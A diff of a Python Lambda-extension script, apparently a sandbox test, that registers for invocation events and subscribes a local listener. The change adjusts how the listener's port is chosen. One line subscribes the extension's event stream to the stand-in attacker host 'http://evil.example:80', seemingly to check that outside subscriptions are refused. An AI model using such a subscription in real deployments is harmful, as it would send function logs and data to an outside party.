@@ -673,9 +673,9 @@ class Listener(http.server.BaseHTTPRequestHandler):
         self.send_response(200)
         self.end_headers()
     def log_message(self, *args): pass
-try: host = socket.gethostbyname("sandbox.localdomain")
-except OSError: host = "0.0.0.0"
-server = http.server.HTTPServer((host, 4243), Listener)
+try: at = (socket.gethostbyname("sandbox.localdomain"), 4243)
+except OSError: at = ("0.0.0.0", 0)
+server = http.server.HTTPServer(at, Listener)
 threading.Thread(target=server.serve_forever, daemon=True).start()
 def call(method, path, body=None, **headers):
     headers = {key.replace("_", "-"): value for key, value in headers.items()}
@@ -691,7 +691,7 @@ def subscribe(uri):
     except urllib.error.HTTPError as error: return error.code
 answer = call("POST", "/2020-01-01/extension/register", {"events": ["INVOKE", "SHUTDOWN"]}, Lambda_Extension_Name="watcher")
 ID = answer.headers["Lambda-Extension-Identifier"]
-print("extension: subscribed", subscribe("http://evil.example:80"), subscribe("http://sandbox.localdomain:4243/x"),
+print("extension: subscribed", subscribe("http://evil.example:80"), subscribe(f"http://sandbox.localdomain:{server.server_port}/x"),
       "_HANDLER" in os.environ, flush=True)
 while True:
     event = json.load(call("GET", "/2020-01-01/extension/event/next", Lambda_Extension_Identifier=ID))
